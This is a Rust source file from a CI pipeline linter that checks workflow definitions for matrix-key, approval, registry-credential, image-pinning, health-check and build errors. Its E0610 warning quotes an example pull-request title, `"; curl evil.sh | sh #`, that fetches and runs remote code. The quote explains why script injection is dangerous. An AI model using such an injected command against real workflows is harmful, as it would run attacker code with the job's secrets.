//! The links between a pipeline and the rest of the stack that a workflow
//! run would otherwise find broken, one job at a time:
//!
//! * E0606: `${{ matrix.KEY }}` names a key of the job's `matrix`;
//! * E0607: a deploy to an `approval` environment runs in a job whose
//!   `environment` is that environment (else nobody is asked);
//! * E0608: a push has the credentials its registry needs (GHCR: the
//!   workflow token with `packages = write` when permissions are listed,
//!   or a password secret; any other registry: a user and a password);
//! * E0609 (warning): a deploy of a service built from this repository,
//!   which the pipeline does not push and whose tag is not pinned;
//! * E0610 (warning): a `run` script pastes `${{ github.event.… }}`,
//!   `${{ github.head_ref }}` (text anyone opening a pull request
//!   controls) or `${{ inputs.… }}` into the shell;
//! * E0611: a health check has a URL (its own or its environment's);
//! * E0612: a `docker_build` names one `service` or a list of `services`
//!   (a matrix job over them: one such step per job, and no matrix of
//!   its own).
//!
//! Environment-dependent rules run in that environment's world, so each
//! deploy is checked against the environment it names.

use crate::check::head_span;
use crate::diagnostics::{suggest, Code, Diagnostic};
use crate::eval::Evaluated;
use crate::resolve::Program;
use crate::value::{Ref, Val, ValKind};

pub(super) fn job(
    p: &Program,
    w: &Evaluated,
    pipeline: &Val,
    name: &str,
    job: &Val,
    diags: &mut Vec<Diagnostic>,
) {
    if w.env.is_none() {
        matrix_keys(name, job, diags);
        service_matrix(p, name, job, diags);
    }
    let steps = job.get("steps").map(Val::list).unwrap_or_default();
    for step in steps {
        let ValKind::Tagged(tg) = &step.kind else {
            continue;
        };
        let (kind, body) = (tg.0.as_str(), &tg.2);
        let head = head_span(&p.map, step.span);
        match kind {
            "docker_build" if w.env.is_none() => {
                for v in build_services(body) {
                    if let ValKind::Ref(Ref::Service(svc)) = &v.kind {
                        push_credentials(w, pipeline, body, svc, head, diags);
                    }
                }
            }
            "run" if w.env.is_none() => untrusted_input(body, diags),
            "deploy" | "health_check" | "rollback" => {
                let Some(env) = ref_env(body) else { continue };
                if w.env.as_deref() != Some(env) {
                    continue;
                }
                if kind == "rollback" {
                    env_targets(w, env, body, diags);
                } else if kind == "deploy" {
                    approval(w, name, job, env, body, diags);
                    unbuilt_images(w, pipeline, env, body, diags);
                    env_targets(w, env, body, diags);
                } else {
                    health_url(w, env, body, head, diags);
                }
            }
            _ => {}
        }
    }
}

fn ref_env(body: &Val) -> Option<&str> {
    match body.get("environment").map(|v| &v.kind) {
        Some(ValKind::Ref(Ref::Environment(e))) => Some(e),
        _ => None,
    }
}

// ---------------------------------------------------------------- E0606

/// Every string in `v`, with its span.
fn strings<'a>(v: &'a Val, out: &mut Vec<(&'a str, crate::source::Span)>) {
    match &v.kind {
        ValKind::Str(s) => out.push((s, v.span)),
        ValKind::List(items) => items.iter().for_each(|i| strings(i, out)),
        ValKind::Map(m) => m.values().for_each(|i| strings(i, out)),
        ValKind::Tagged(t) => strings(&t.2, out),
        _ => {}
    }
}

/// The `matrix.KEY` names inside `${{ … }}` expressions of `s`.
fn matrix_refs(s: &str) -> Vec<&str> {
    let mut keys = Vec::new();
    let mut rest = s;
    while let Some(open) = rest.find("${{") {
        let after = &rest[open + 3..];
        let Some(close) = after.find("}}") else { break };
        let expr = &after[..close];
        let mut e = expr;
        while let Some(i) = e.find("matrix.") {
            let before_ok = e[..i]
                .chars()
                .next_back()
                .is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '_' || c == '.'));
            let key: &str = {
                let tail = &e[i + 7..];
                let end = tail
                    .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '-'))
                    .unwrap_or(tail.len());
                &tail[..end]
            };
            if before_ok && !key.is_empty() {
                keys.push(key);
            }
            e = &e[i + 7..];
        }
        rest = &after[close + 2..];
    }
    keys
}

fn matrix_keys(name: &str, job: &Val, diags: &mut Vec<Diagnostic>) {
    let declared: Vec<&str> = job
        .get("matrix")
        .and_then(Val::as_map)
        .map(|m| m.keys().map(|k| &**k).collect())
        .unwrap_or_default();
    let mut texts = Vec::new();
    strings(job, &mut texts);
    for (text, span) in texts {
        for key in matrix_refs(text) {
            if declared.contains(&key) {
                continue;
            }
            let help = if declared.is_empty() {
                Some(format!(
                    "declare it in the job: `matrix {{ {key} = [\"…\", \"…\"] }}`"
                ))
            } else {
                suggest::help_for_unknown("matrix key", key, declared.iter().copied()).or_else(
                    || {
                        Some(format!(
                            "the job's matrix has {}",
                            suggest::quote_list(&declared)
                        ))
                    },
                )
            };
            diags.push(
                Diagnostic::new(
                    Code::E0606,
                    span,
                    format!("`matrix.{key}` is not a key of job `{name}`'s matrix"),
                )
                .label("unknown matrix key")
                .help_opt(help),
            );
        }
    }
}

// ---------------------------------------------------------------- E0607

fn approval(
    w: &Evaluated,
    name: &str,
    job: &Val,
    env: &str,
    body: &Val,
    diags: &mut Vec<Diagnostic>,
) {
    let needs_approval = w
        .environment
        .as_ref()
        .and_then(|e| e.get("approval"))
        .and_then(Val::bool)
        .unwrap_or(false);
    let job_env = match job.get("environment").map(|v| &v.kind) {
        Some(ValKind::Ref(Ref::Environment(e))) => Some(e.as_str()),
        _ => None,
    };
    if !needs_approval || job_env == Some(env) {
        return;
    }
    let span = body.get("environment").map_or(body.span, |v| v.span);
    let said = match job_env {
        Some(other) => format!("job `{name}` runs in environment `{other}`"),
        None => format!("job `{name}` has no `environment`"),
    };
    diags.push(
        Diagnostic::new(
            Code::E0607,
            span,
            format!("this step deploys to `{env}`, which needs an approval, but {said}"),
        )
        .label(format!("deploys to `{env}` without waiting for a reviewer"))
        .note(format!(
            "GitHub asks for the approval of environment `{env}` only for jobs that declare it"
        ))
        .help(format!("add `environment = {env}` to job `{name}`")),
    );
}

// ---------------------------------------------------------------- E0608

/// The registry host a service's image is pushed to (`None`: Docker Hub).
fn registry_host(w: &Evaluated, service: &str) -> Option<String> {
    let svc = w.services.get(service)?;
    let image = svc.get("image").and_then(Val::str);
    let registry = w
        .environment
        .as_ref()
        .and_then(|e| e.get("registry"))
        .and_then(Val::str)
        .or_else(|| w.stack.get("registry").and_then(Val::str));
    let repo = match image {
        Some(i) if i.contains('/') => i,
        _ => registry?,
    };
    let first = repo.split('/').next()?;
    (first.contains('.') || first.contains(':') || first == "localhost").then(|| first.to_string())
}

/// Whether a built service's image name has a namespace (`acme/api`,
/// `ghcr.io/acme/api`), from its `image` or the registry it is pushed to.
fn has_namespace(w: &Evaluated, service: &str) -> bool {
    let Some(svc) = w.services.get(service) else {
        return true;
    };
    if svc
        .get("image")
        .and_then(Val::str)
        .is_some_and(|i| i.contains('/'))
    {
        return true;
    }
    w.environment
        .as_ref()
        .and_then(|e| e.get("registry"))
        .and_then(Val::str)
        .or_else(|| w.stack.get("registry").and_then(Val::str))
        .is_some_and(|r| !r.is_empty())
}

/// The service references of a `docker_build` (`service`, else each of
/// `services`).
pub(super) fn build_services(body: &Val) -> Vec<&Val> {
    let one = body.get("service").filter(|v| !v.is_null());
    let many = body.get("services").map(Val::list).unwrap_or_default();
    one.into_iter().chain(many).collect()
}

fn push_credentials(
    w: &Evaluated,
    pipeline: &Val,
    body: &Val,
    svc: &str,
    head: crate::source::Span,
    diags: &mut Vec<Diagnostic>,
) {
    if body.get("push").and_then(Val::bool) != Some(true) {
        return;
    }
    let built = w
        .services
        .get(svc)
        .is_some_and(|s| s.get("build").is_some_and(|b| !b.is_null()));
    if !built {
        // E0605 already says there is nothing to push.
        return;
    }
    let host = registry_host(w, svc);
    let user = body.get("registry_user").is_some_and(|v| !v.is_null());
    let password = body.get("registry_password").is_some_and(|v| !v.is_null());
    let span = body.get("push").map_or(head, |v| v.span);
    if host.as_deref() == Some("ghcr.io") {
        if password {
            return;
        }
        let Some(perms) = pipeline.get("permissions").filter(|v| !v.is_null()) else {
            return;
        };
        let packages = perms.get("packages").and_then(|v| match &v.kind {
            ValKind::Enum(e) => Some(&**e),
            _ => None,
        });
        if packages == Some("write") {
            return;
        }
        diags.push(
            Diagnostic::new(
                Code::E0608,
                span,
                format!("`{svc}` is pushed to ghcr.io with the workflow token, which the pipeline's permissions do not allow to write packages"),
            )
            .label("the push would fail with 403 Forbidden")
            .secondary(perms.span, "these permissions leave `packages` without write access")
            .help("add `packages = write` to the pipeline's `permissions`, or push with a token: `registry_password = secret.NAME`"),
        );
        return;
    }
    if host.is_none() && !has_namespace(w, svc) {
        // E0321: `docker push api` goes to docker.io/library/api, the
        // namespace of Docker's official images, which nobody else can
        // push to; logging in does not help, so E0608 is not reported.
        let image = w
            .services
            .get(svc)
            .and_then(|s| s.get("image"))
            .and_then(Val::str)
            .unwrap_or(svc);
        let repo = image.split(':').next().unwrap_or(image);
        diags.push(
            Diagnostic::new(
                Code::E0321,
                span,
                format!("`{svc}` is pushed as `{repo}`, an image name with no registry"),
            )
            .label(format!("would push to docker.io/library/{repo}, which only Docker's official images can"))
            .help("name the registry the image goes to: `registry = \"ghcr.io/OWNER\"` in the `stack` block (or the environment), or an image with a namespace such as `image = \"docker.io/ORG/NAME\"`"),
        );
        return;
    }
    let registry = host.unwrap_or_else(|| "Docker Hub".into());
    let missing = match (user, password) {
        (true, true) => return,
        (false, false) => "`registry_user` and `registry_password`",
        (true, false) => "`registry_password`",
        (false, true) => "`registry_user`",
    };
    diags.push(
        Diagnostic::new(
            Code::E0608,
            span,
            format!("`{svc}` is pushed to {registry}, but the step has no {missing}"),
        )
        .label("the push would fail: not logged in")
        .help("log in with secrets: `registry_user = secret.NAME` and `registry_password = secret.NAME` (the workflow token only reaches ghcr.io)"),
    );
}

// ---------------------------------------------------------------- E0609

/// Whether a service's image tag is fixed in this world (not `latest`).
fn pinned(w: &Evaluated, svc: &Val) -> bool {
    let fixed = |t: &str| !t.is_empty() && t != "latest";
    if let Some(t) = svc.get("tag").and_then(Val::str) {
        return fixed(t);
    }
    if let Some(i) = svc.get("image").and_then(Val::str) {
        let last = i.rsplit('/').next().unwrap_or(i);
        if let Some((_, t)) = last.split_once(':') {
            return fixed(t);
        }
    }
    w.environment
        .as_ref()
        .and_then(|e| e.get("tag"))
        .and_then(Val::str)
        .is_some_and(fixed)
}

fn unbuilt_images(
    w: &Evaluated,
    pipeline: &Val,
    env: &str,
    body: &Val,
    diags: &mut Vec<Diagnostic>,
) {
    let pushed: Vec<&str> = pipeline
        .get("job")
        .and_then(Val::as_map)
        .into_iter()
        .flat_map(|jobs| jobs.values())
        .flat_map(|j| j.get("steps").map(Val::list).unwrap_or_default())
        .filter_map(|s| match &s.kind {
            ValKind::Tagged(t) if t.0 == "docker_build" => Some(&t.2),
            _ => None,
        })
        .filter(|b| b.get("push").and_then(Val::bool) == Some(true))
        .flat_map(build_services)
        .filter_map(|v| match &v.kind {
            ValKind::Ref(Ref::Service(s)) => Some(s.as_str()),
            _ => None,
        })
        .collect();
    for (name, svc) in &w.services {
        let built_here = svc.get("build").is_some_and(|b| !b.is_null());
        let external = svc.get("external").is_some_and(|b| !b.is_null());
        if !built_here || external || pushed.contains(&name.as_str()) || pinned(w, svc) {
            continue;
        }
        let span = body.get("environment").map_or(body.span, |v| v.span);
        diags.push(
            Diagnostic::new(
                Code::E0609,
                span,
                format!("this deploys `{name}` to `{env}`, but the pipeline never pushes its image and its tag is not pinned"),
            )
            .label(format!("`{name}` runs whatever image the registry holds under a moving tag"))
            .help(format!(
                "push it in this pipeline (`docker_build {{ service = {name}  push = true }}`) or pin its tag (`tag = \"1.4.2\"` on the service or in environment `{env}`)"
            )),
        );
    }
}

// ---------------------------------------------------------------- E0610

/// Expressions whose text whoever opens a pull request or an issue controls.
const UNTRUSTED: &[&str] = &["github.event.", "github.head_ref"];

fn untrusted_input(body: &Val, diags: &mut Vec<Diagnostic>) {
    let Some(script) = body.get("script") else {
        return;
    };
    let Some(text) = script.str() else { return };
    let mut rest = text;
    while let Some(open) = rest.find("${{") {
        let after = &rest[open + 3..];
        let Some(close) = after.find("}}") else { break };
        let expr = after[..close].trim();
        let input =
            expr.starts_with("inputs.") || expr.contains(" inputs.") || expr.contains("(inputs.");
        if input || UNTRUSTED.iter().any(|u| expr.contains(u)) {
            let var = expr
                .rsplit('.')
                .next()
                .unwrap_or("VALUE")
                .to_ascii_uppercase()
                .replace('-', "_");
            diags.push(
                Diagnostic::new(
                    Code::E0610,
                    script.span,
                    format!("the script pastes `${{{{ {expr} }}}}` into the shell"),
                )
                .label("text from the triggering event becomes shell code")
                .note("a pull request title such as `\"; curl evil.sh | sh #` would run with the job's token and secrets")
                .help(format!(
                    "pass it through the step's env: `env {{ {var} = \"${{{{ {expr} }}}}\" }}` and write `\"${var}\"` in the script"
                )),
            );
            return;
        }
        rest = &after[close + 2..];
    }
}

// ---------------------------------------------------------------- E0611

fn health_url(
    w: &Evaluated,
    env: &str,
    body: &Val,
    head: crate::source::Span,
    diags: &mut Vec<Diagnostic>,
) {
    let has = |v: Option<&Val>| v.is_some_and(|v| !v.is_null());
    if let Some(svc_ref) = body.get("service").filter(|v| !v.is_null()) {
        if let ValKind::Ref(Ref::Service(svc)) = &svc_ref.kind {
            let http = |probe: &str| {
                w.services
                    .get(svc)
                    .and_then(|s| s.get(probe))
                    .and_then(|p| p.get("http"))
                    .is_some_and(|h| !h.is_null())
            };
            if w.services.contains_key(svc) && !http("readiness") && !http("health") {
                diags.push(
                    Diagnostic::new(
                        Code::E0611,
                        svc_ref.span,
                        format!("this health check probes `{svc}`'s health path, but `{svc}` has no HTTP `health` or `readiness` probe in `{env}`"),
                    )
                    .label("no path to probe")
                    .help(format!("give `{svc}` an HTTP probe (`health {{ http = \"/health\" }}`) or write the full `url` in the step")),
                );
            }
        }
    }
    let env_url = w.environment.as_ref().and_then(|e| e.get("url"));
    if has(body.get("url")) || has(env_url) {
        return;
    }
    diags.push(
        Diagnostic::new(
            Code::E0611,
            head,
            format!("this health check has no URL: neither the step nor environment `{env}` sets `url`"),
        )
        .label("nothing to probe")
        .help(format!(
            "set `url = \"https://…\"` in environment `{env}` (deploy jobs show it too) or in the step"
        )),
    );
}

// ---------------------------------------------------------------- E0612

fn service_matrix(p: &Program, name: &str, job: &Val, diags: &mut Vec<Diagnostic>) {
    let own_matrix = job
        .get("matrix")
        .and_then(Val::as_map)
        .is_some_and(|m| !m.is_empty());
    let mut matrix_steps = 0;
    for step in job.get("steps").map(Val::list).unwrap_or_default() {
        let ValKind::Tagged(tg) = &step.kind else {
            continue;
        };
        if tg.0 != "docker_build" {
            continue;
        }
        let body = &tg.2;
        let head = head_span(&p.map, step.span);
        let one = body.get("service").filter(|v| !v.is_null());
        let many = body.get("services").filter(|v| !v.is_null());
        let problem = match (one, many) {
            (None, None) => Some((
                head,
                "this `docker_build` names no service".to_string(),
                "add `service = NAME` (or `services = [a, b]` for a matrix over several)"
                    .to_string(),
            )),
            (Some(_), Some(m)) => Some((
                m.span,
                "this `docker_build` names both `service` and `services`".to_string(),
                "keep `service` for one image, or `services` for a matrix over several".to_string(),
            )),
            (None, Some(m)) => {
                matrix_steps += 1;
                if own_matrix {
                    Some((
                        m.span,
                        format!("job `{name}` has its own `matrix`, so `services` cannot make it a matrix over services"),
                        "build the services in a job of their own, or list them one `docker_build { service = … }` at a time".to_string(),
                    ))
                } else if matrix_steps > 1 {
                    Some((
                        m.span,
                        format!("job `{name}` already builds a matrix over services"),
                        "a job is one matrix: move this step to a job of its own".to_string(),
                    ))
                } else {
                    None
                }
            }
            (Some(_), None) => None,
        };
        if let Some((span, message, help)) = problem {
            diags.push(
                Diagnostic::new(Code::E0612, span, message)
                    .label("cannot build this")
                    .help(help),
            );
        }
    }
}

// ---------------------------------------------------------------- E0602

/// A deploy or rollback `via` a target the environment is not emitted for
/// (`targets = [...]` in the environment): there are no files to apply.
fn env_targets(w: &Evaluated, env: &str, body: &Val, diags: &mut Vec<Diagnostic>) {
    let via = body.get("via").and_then(Val::str).unwrap_or("kustomize");
    let Some(targets) = w
        .environment
        .as_ref()
        .and_then(|e| e.get("targets"))
        .filter(|t| !t.is_null())
    else {
        return;
    };
    let names: Vec<&str> = targets.list().iter().filter_map(Val::str).collect();
    if names.contains(&via) {
        return;
    }
    let span = body.get("environment").map_or(body.span, |v| v.span);
    diags.push(
        Diagnostic::new(
            Code::E0602,
            span,
            format!("this step applies the `{via}` files of `{env}`, but `{env}` is emitted only for {}", suggest::quote_list(&names)),
        )
        .label(format!("no `{via}` output for `{env}`"))
        .secondary(targets.span, format!("`{env}` is restricted to these targets"))
        .help(format!("add `{via}` to `targets` in environment `{env}`, or deploy `via` one of its targets")),
    );
}
